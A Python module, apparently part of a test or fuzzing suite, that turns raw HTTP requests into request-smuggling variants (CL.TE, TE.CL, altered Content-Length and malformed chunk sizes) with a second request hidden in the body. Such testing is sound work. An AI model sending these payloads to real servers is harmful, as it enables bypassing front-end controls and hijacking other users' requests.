"""Hostile requests with another request in their body, for each way in which two parsers can
differ: in the length, the encoding or the size of a chunk.
"""
import re

LENGTH = re.compile(rb"(?i)(content[-_ ]length[^\r\n]*?)5(?=[^0-9\r\n]*\r?\n)")
ENCODING = re.compile(rb"(?i)transfer[-_ ]encoding")
# Of a first chunk of 5 bytes.
BAD_SIZE = re.compile(rb"[^0-9a-f]*0?[xX]?5(?!\r\n)|[^0-9a-f]+0?[xX]?5")
END = b"0\r\n\r\n"


def _with_length(head, length):
    return LENGTH.sub(lambda match: match.group(1) + b"%d" % length, head, count=1)


def variants(raw, hidden):
    """(name, bytes) of the row: as it is, and with the other request hidden in its body."""
    head, found, body = raw.partition(b"\r\n\r\n")
    head += found
    yield "as it is", raw
    if LENGTH.search(head):
        yield "a length", _with_length(head, len(hidden)) + hidden
    if ENCODING.search(head):
        size = b"%x\r\n" % len(hidden)
        yield "CL.TE", _with_length(head, len(END + hidden)) + END + hidden
        yield "TE.CL", _with_length(head, len(size)) + size + hidden + b"\r\n" + END
        if BAD_SIZE.match(body):
            yield "chunk", head + body.replace(b"5", b"%x" % len(hidden), 1).replace(
                b"R0000", hidden, 1)
